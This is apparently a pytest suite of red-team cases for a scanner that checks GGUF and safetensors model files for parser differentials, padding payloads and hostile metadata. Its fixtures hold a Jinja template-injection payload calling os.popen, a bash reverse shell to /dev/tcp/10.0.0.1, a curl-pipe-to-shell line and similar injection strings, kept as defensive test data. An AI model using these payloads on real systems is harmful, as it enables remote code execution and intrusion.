"""Red-team cases for the GGUF and safetensors readers (issue 11, classes 1, 4, 5, 6, 7).

Each hostile fixture has a benign twin that must pass. The oracle is what llama.cpp
(``ggml/src/gguf.cpp``, ``src/llama-model-loader.cpp``) and the safetensors library do with the
same bytes: where another reader would see something else, the scanner must block.
"""

from __future__ import annotations

import json
import struct
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import numpy as np
import pytest

from specbundle.scan import ScanReport, Severity, scan_tree, to_sarif
from specbundle.scan.findings import Finding, finding
from specbundle.scan.formats import gguf_reader
from tests.lib import corpus
from tests.scan.conftest import FAST, ids

Scan = Callable[..., ScanReport]
_U8, _U32, _I32, _F32, _BOOL, _STR, _ARR, _U64 = 0, 4, 5, 6, 7, 8, 9, 10
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def _s(text: str | bytes) -> bytes:
    b = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(b)) + b


def _gguf(kv: list[tuple[bytes | str, int, bytes]],
          tensors: Sequence[tuple[bytes | str, tuple[int, ...], int, int]] = (),
          data: bytes = b"", *, alignment: int = 32, version: int = 3,
          pad: bytes = b"\x00") -> bytes:
    """A GGUF by hand, names as raw bytes allowed; ``pad`` fills the header padding."""
    parts = [b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kv))]
    for key, vt, val in kv:
        parts.append(_s(key) + struct.pack("<I", vt) + val)
    for name, dims, t, off in tensors:
        parts.append(_s(name) + struct.pack("<I", len(dims)) + b"".join(
            struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", t, off))
    out = b"".join(parts)  # joined once: a header of 10^5 tensors stays linear to build
    n = -len(out) % alignment
    return out + (pad * n)[:n] + data


_ARCH = ("general.architecture", _STR, _s("llama"))


def _tpl(text: str, key: bytes | str = "tokenizer.chat_template") -> tuple[bytes | str, int, bytes]:
    return (key, _STR, _s(text))


def _serialisable(rep: ScanReport) -> None:
    assert not rep.crashed_checks, [f.message for f in rep.findings]
    rep.canonical_bytes().decode("utf-8")
    json.dumps(to_sarif(rep), ensure_ascii=False).encode("utf-8")
    assert ScanReport.from_bytes(rep.canonical_bytes()).canonical_bytes() == rep.canonical_bytes()


def _clean(rep: ScanReport) -> bool:
    _serialisable(rep)
    return not rep.blocked and ids(rep) == set()


def _msgs(rep: ScanReport) -> list[str]:
    return [f"{f.check_id}: {f.message}" for f in rep.findings]


# -- 1. NUL in names and strings: llama.cpp reads C strings --------------------------------------
_EVIL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
_BENIGN = "{{ messages[0]['content'] }}"
_NUL_CASES = {
    # gguf_find_key/strcmp and the model's key map stop at the NUL: llama.cpp's chat template is
    # the first one, which no other reader (nor the template check) calls a chat template
    "template-key": [_ARCH, _tpl(_EVIL, b"tokenizer.chat_template\x00x"), _tpl(_BENIGN)],
    "alignment-key": [_ARCH, (b"general.alignment\x00", _U32, struct.pack("<I", 64))],
    "arch-value": [("general.architecture", _STR, _s(b"llama\x00evil"))],
    "template-value": [_ARCH, _tpl(_BENIGN + "\x00" + _EVIL)],
    "empty-key": [_ARCH, (b"", _U32, struct.pack("<I", 1))],
}


@pytest.mark.parametrize("case", sorted(_NUL_CASES))
def test_nul_in_gguf_keys_and_strings(scan_one: Scan, case: str) -> None:
    rep = scan_one("model.gguf", _gguf(_NUL_CASES[case]))
    _serialisable(rep)
    assert "gguf.key-name" in ids(rep, Severity.HIGH) and rep.blocked, _msgs(rep)


def test_nul_in_tensor_name(scan_one: Scan) -> None:
    # ggml_set_name copies up to the NUL: two names differ here and collide in llama.cpp
    tensors = [(b"a\x00x", (16,), 1, 0), (b"a\x00y", (16,), 1, 32)]
    rep = scan_one("model.gguf", _gguf([_ARCH], tensors, b"\x00" * 64))
    _serialisable(rep)
    assert "gguf.key-name" in ids(rep, Severity.CRITICAL), _msgs(rep)
    twin = _gguf([_ARCH, _tpl(_BENIGN)], [("a", (16,), 1, 0), ("b", (16,), 1, 32)], b"\x00" * 64)
    assert _clean(scan_one("model.gguf", twin))


# -- 1. types llama.cpp reads with one type -----------------------------------------------------
@pytest.mark.parametrize(("key", "vt", "val"), [
    ("llama.attention.key_length", _STR, _s("128")),
    ("llama.context_length", _U64, struct.pack("<Q", 4096)),
    ("llama.block_count", _ARR, struct.pack("<IQ", _F32, 1) + b"\x00" * 4),
    ("llama.rope.scaling.factor", _U32, struct.pack("<I", 8)),
    ("llama.attention.causal", _U32, struct.pack("<I", 1)),
    ("tokenizer.ggml.add_sep_token", _U8, b"\x01"),
    ("tokenizer.ggml.merges", _ARR, struct.pack("<IQ", _U8, 1) + b"a"),
    ("tokenizer.ggml.eos_token_id", _I32, struct.pack("<i", -1)),
    ("tokenizer.chat_template.tool_use", _ARR, struct.pack("<IQ", _STR, 1) + _s("x")),
    ("general.alignment", _U64, struct.pack("<Q", 32)),
])
def test_typed_keys(scan_one: Scan, key: str, vt: int, val: bytes) -> None:
    rep = scan_one("model.gguf", _gguf([_ARCH, (key, vt, val)]))
    assert "gguf.key-type" in ids(rep, Severity.HIGH), _msgs(rep)


def test_gguf_writer_hyperparameters_pass(tmp_path: Path) -> None:
    import gguf

    path = tmp_path / "m" / "model.gguf"
    path.parent.mkdir()
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_block_count(2)
    w.add_context_length(4096)
    w.add_embedding_length(64)
    w.add_feed_forward_length([128, 128])
    w.add_head_count(4)
    w.add_head_count_kv(2)
    w.add_key_length(16)
    w.add_value_length(16)
    w.add_rope_freq_base(10000.0)
    w.add_rope_scaling_type(gguf.RopeScalingType.YARN)
    w.add_rope_scaling_factor(4.0)
    w.add_rope_scaling_orig_ctx_len(1024)
    w.add_rope_scaling_finetuned(True)
    w.add_layer_norm_rms_eps(1e-5)
    w.add_causal_attention(True)
    w.add_sliding_window(128)
    w.add_logit_scale(1.0)
    w.add_expert_count(4)
    w.add_expert_used_count(2)
    w.add_expert_weights_scale(1.0)
    w.add_expert_weights_norm(True)
    w.add_file_type(1)
    w.add_quantization_version(2)
    w.add_type("model")
    w.add_tokenizer_model("gpt2")
    w.add_token_list(["a", "b", "c"])
    w.add_token_scores([0.0, 0.0, 0.0])
    w.add_token_types([1, 1, 1])
    w.add_token_merges(["a b"])
    w.add_bos_token_id(0)
    w.add_add_bos_token(True)
    w.add_add_sep_token(False)
    w.add_chat_template(_BENIGN)
    w.add_tensor("a", np.ones((3, 8), dtype=np.float32))
    w.add_tensor("b", np.ones((5,), dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    assert _clean(scan_tree(path.parent, options=FAST)), _msgs(scan_tree(path.parent,
                                                                         options=FAST))


# -- 1. version and byte order -------------------------------------------------------------------
@pytest.mark.parametrize("version", [0, 1, 4, 0x03000000])
def test_versions_llama_cpp_refuses(scan_one: Scan, version: int) -> None:
    rep = scan_one("model.gguf", _gguf([_ARCH], version=version))
    assert "gguf.version" in ids(rep, Severity.HIGH)


def test_big_endian_gguf_is_refused(tmp_path: Path) -> None:
    import gguf

    path = tmp_path / "m" / "model.gguf"
    path.parent.mkdir()
    w = gguf.GGUFWriter(str(path), "llama", endianess=gguf.GGUFEndian.BIG)
    w.add_tensor("a", np.ones((8,), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    assert gguf.GGUFReader(str(path)).endianess == gguf.GGUFEndian.BIG  # gguf-py reads it
    rep = scan_tree(path.parent, options=FAST)  # llama.cpp refuses it: "endianness mismatch"
    assert "gguf.version" in ids(rep, Severity.HIGH) and rep.blocked


# -- 4. payloads behind valid headers: every padding byte is zero --------------------------------
def _two_tensors(pad_after_header: bytes = b"\x00", gap: bytes = b"\x00" * 16,
                 tail: bytes = b"") -> bytes:
    data = b"\x01" * 16 + gap + b"\x02" * 32 + tail
    return _gguf([_ARCH], [("a", (8,), 1, 0), ("b", (16,), 1, 32)], data, pad=pad_after_header)


@pytest.mark.parametrize(("blob", "bad"), [
    (_two_tensors(), False),
    (_two_tensors(b"\x00"), False),
    (_two_tensors(b"\xcc"), True),                    # between the header and the first tensor
    (_two_tensors(gap=b"\x00" * 15 + b"\x01"), True),  # between two tensors
    (_two_tensors(tail=b"\x00" * 31), False),
    (_two_tensors(tail=b"\x00" * 30 + b"X"), True),   # after the last tensor, inside one block
    (_two_tensors(tail=ELF), True),
    (_gguf([_ARCH]) + ELF, True),                     # zero tensors
    (_gguf([_ARCH]), False),
])
def test_padding_must_be_zero(scan_one: Scan, blob: bytes, bad: bool) -> None:
    rep = scan_one("model.gguf", blob)
    _serialisable(rep)
    if bad:
        assert "gguf.trailing-bytes" in ids(rep, Severity.HIGH) and rep.blocked, _msgs(rep)
    else:
        assert _clean(rep), _msgs(rep)


def test_huge_alignment_is_room_for_a_payload(scan_one: Scan) -> None:
    big = 1 << 20
    kv = [_ARCH, ("general.alignment", _U32, struct.pack("<I", big))]
    rep = scan_one("model.gguf", _gguf(kv, [("a", (8,), 1, 0)], b"\x01" * 16, alignment=big))
    assert "gguf.alignment" in ids(rep, Severity.HIGH), _msgs(rep)
    kv = [_ARCH, ("general.alignment", _U32, struct.pack("<I", 64))]
    ok = _gguf(kv, [("a", (8,), 1, 0), ("b", (8,), 1, 64)], b"\x01" * 16 + b"\x00" * 48
               + b"\x02" * 16, alignment=64)
    assert _clean(scan_one("model.gguf", ok))


# -- 5. hostile bytes never crash the report -----------------------------------------------------
@pytest.mark.parametrize("raw", [b"\xff\xfe", b"\xed\xa0\x80", b"\x1b[2J\x07", b"\xc0\x80",
                                 "\u202e\u200b".encode(), b"\x00"])
def test_hostile_bytes_everywhere_serialise(scan_one: Scan, raw: bytes) -> None:
    kv = [_ARCH, (b"general." + raw, _STR, _s(raw)), ("general.name", _STR, _s(raw * 1000)),
          ("tokenizer.ggml.tokens", _ARR, struct.pack("<IQ", _STR, 2) + _s(raw) + _s(b"a"))]
    for blob in (_gguf(kv, [(b"t" + raw, (8,), 1, 0)], b"\x00" * 16),
                 _gguf([_ARCH, _tpl(raw.decode("latin-1") + "{{ x }}")])):
        rep = scan_one("model.gguf", blob)
        _serialisable(rep)
        text = rep.canonical_bytes().decode("utf-8")
        assert not any(c in text for c in ("\x1b", "\u202e", "\u200b")), text[:200]


def test_huge_strings_are_bounded_in_the_report(scan_one: Scan) -> None:
    name = b"\xff" * 60_000  # 60 kB of invalid UTF-8: escaped, 4 characters each
    rep = scan_one("model.gguf", _gguf([_ARCH, (name, _STR, _s("x"))]))
    _serialisable(rep)
    assert rep.blocked and len(rep.canonical_bytes()) < 200_000
    f = finding("x.y", Severity.HIGH, "m" * 100_000, "f", v="\udcff" * 50_000)
    again = Finding.from_json(json.loads(json.dumps(f.to_json())))
    assert again == f and len(f.message) <= 16 * 1024


# -- 7. hard caps end in a HIGH 'too large to analyse' -------------------------------------------
def test_tensor_count_cap(scan_one: Scan) -> None:
    n = gguf_reader.MAX_TENSORS + 1  # one past the real cap: a ~10 MB file
    tensors = [(f"t{i}", (16,), 1, 32 * i) for i in range(n)]
    rep = scan_one("model.gguf", _gguf([_ARCH], tensors, b"\x00" * 32 * n))
    assert "gguf.too-large" in ids(rep, Severity.HIGH) and rep.blocked
    assert any("too large to analyse" in f.message for f in rep.findings)


def test_string_value_cap(scan_one: Scan) -> None:
    cap = gguf_reader.MAX_STRING_BYTES  # the real cap: 32 MB of string values in all
    rep = scan_one("model.gguf", _gguf([_ARCH, _tpl("x" * (cap + 1))]))
    [f] = [f for f in rep.findings if f.check_id == "gguf.too-large"]
    assert f.severity is Severity.HIGH and "too large to analyse" in f.message
    assert _clean(scan_one("model.gguf", _gguf([_ARCH, ("general.name", _STR,
                                                        _s("x" * (cap - 10)))])))


def test_metadata_throughput(tmp_path: Path) -> None:
    """A 40 MB tokenizer array parses at well over 20 MB/s (target: 100 MB/s on a free core)."""
    n = 400_000
    toks = b"".join(_s(b"%099d" % i) for i in range(n))
    blob = _gguf([_ARCH, ("tokenizer.ggml.tokens", _ARR, struct.pack("<IQ", _STR, n) + toks)])
    path = tmp_path / "big.gguf"
    path.write_bytes(blob)
    t0 = time.perf_counter()
    h = gguf_reader.read_gguf(path)
    took = time.perf_counter() - t0
    assert len(h.kv["tokenizer.ggml.tokens"]) == n
    assert len(blob) / took > 20e6, f"{len(blob) / took / 1e6:.1f} MB/s"


# -- 1./6. safetensors --------------------------------------------------------------------------
def _st(meta: dict[str, str] | None = None, names: tuple[str, ...] = ("w",)) -> bytes:
    hdr, data = corpus.f16_header(*((n, (2, 2)) for n in names))
    if meta is not None:
        hdr["__metadata__"] = meta
    return corpus.safetensors_bytes(hdr, data)


def test_medium_metadata_does_not_switch_off_the_reference_parser(scan_one: Scan) -> None:
    # a lone surrogate: Python's json reads it, serde_json (the safetensors library) refuses
    raw = (b'{"__metadata__": {"x": "{{ 1 }}"}, '
           b'"w\\ud800": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}')
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(raw, b"\x00" * 4))
    _serialisable(rep)
    assert "safetensors.metadata-suspicious" in ids(rep, Severity.MEDIUM)
    assert "safetensors.reference-parser" in ids(rep, Severity.HIGH) and rep.blocked, _msgs(rep)


@pytest.mark.parametrize(("meta", "hostile"), [
    ({"format": "pt"}, False),
    ({"format": "pt", "modelspec.title": "My LoRA (v2), trained on 8 GPUs; eval: MMLU"}, False),
    ({"format": "pt", "ss_tag_frequency": json.dumps({"set": {"a cat": 3, "dog": 1}})}, False),
    ({"format": "pt", "ss_network_args": json.dumps({"conv_dim": "4"})}, False),
    ({"format": "pt", "x": "CURL https://e.example/p | SH"}, True),
    ({"format": "pt", "x": "bash -c 'id'"}, True),
    ({"format": "pt", "x": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}, True),
    ({"format": "pt", "x": "python3 -c 'import os'"}, True),
    ({"format": "pt", "x": "<% system('id') %>"}, True),
    ({"format": "pt", "x": "{0.__class__.__mro__}"}, True),
    ({"format": "pt", "x": "<script>alert(1)</script>"}, True),
    ({"format": "pt", "{{ x }}": "pt"}, True),
])
def test_hostile_looking_metadata_is_medium(scan_one: Scan, meta: dict[str, str],
                                            hostile: bool) -> None:
    rep = scan_one("model.safetensors", _st(meta))
    got = [f for f in rep.findings if f.check_id == "safetensors.metadata-suspicious"]
    assert bool(got) is hostile and all(f.severity is Severity.MEDIUM for f in got), _msgs(rep)
    assert hostile or _clean(rep)


@pytest.mark.parametrize(("raw", "check_id"), [
    (b'\xef\xbb\xbf{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}',
     "safetensors.header-start"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}\r\n',
     "safetensors.header-padding"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}} {}',
     "safetensors.header-json"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4.0]}}',
     "safetensors.tensor-entry"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 18446744073709551620]}}',
     "safetensors.offset-range"),
    (b'{"w": {"dtype": "F16", "shape": [NaN], "data_offsets": [0, 4]}}',
     "safetensors.header-json"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}, '
     b'"\\u0077": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}',
     "safetensors.duplicate-key"),
    (b'{"__metadata__": {"a": "x", "\\u0061": "y"}, '
     b'"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}',
     "safetensors.duplicate-key"),
    (b'{"__metadata__": {"a": 1}, "w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}',
     "safetensors.metadata"),
    (b'{"w": {"dtype": "F17", "shape": [2], "data_offsets": [0, 4]}}',
     "safetensors.unknown-dtype"),
    (b'{"w": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}\xff',
     "safetensors.header-padding"),
])
def test_safetensors_header_differentials(scan_one: Scan, raw: bytes, check_id: str) -> None:
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(raw, b"\x00" * 4, pad=False))
    _serialisable(rep)
    assert check_id in ids(rep, Severity.HIGH) and rep.blocked, _msgs(rep)


@pytest.mark.parametrize("extra", [b"\x00", b"\x00" * 8, ELF])
def test_safetensors_trailing_and_gaps(scan_one: Scan, extra: bytes) -> None:
    hdr, data = corpus.f16_header(("a", (2,)), ("b", (2,)))
    assert _clean(scan_one("model.safetensors", corpus.safetensors_bytes(hdr, data)))
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(hdr, data + extra))
    assert "safetensors.trailing-bytes" in ids(rep, Severity.HIGH)
    hdr["b"]["data_offsets"] = [4 + len(extra), 8 + len(extra)]
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(hdr, data[:4] + extra
                                                                 + data[4:]))
    assert "safetensors.gap" in ids(rep, Severity.HIGH)


def test_safetensors_library_file_passes(tmp_path: Path) -> None:
    from safetensors.numpy import save_file

    (tmp_path / "m").mkdir()
    save_file({"a": np.zeros((3, 5), np.float32), "b": np.arange(7, dtype=np.int8),
               "c": np.zeros((0,), np.float16)}, str(tmp_path / "m" / "model.safetensors"),
              metadata={"format": "pt", "note": "trained on 8 GPUs; lr=3e-4"})
    assert _clean(scan_tree(tmp_path / "m", options=FAST))


def test_findings_per_rule_are_capped(scan_one: Scan) -> None:
    """A million hostile entries make a bounded report (one more finding counts the rest)."""
    n = 2_000
    hdr = {f"a/{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(n)}
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(hdr, b"\x00" * n))
    _serialisable(rep)
    names = [f for f in rep.findings if f.check_id == "safetensors.tensor-name"]
    assert rep.blocked and len(names) == 51 and f"{n - 50} more" in names[-1].message
    tensors = [("t", (16,), 1, 32 * i) for i in range(200)]  # 199 duplicate names
    rep = scan_one("model.gguf", _gguf([_ARCH], tensors, b"\x00" * 32 * 200))
    _serialisable(rep)
    dups = [f for f in rep.findings if f.check_id == "gguf.duplicate"]
    assert rep.blocked and len(dups) == 51 and "149 more" in dups[-1].message
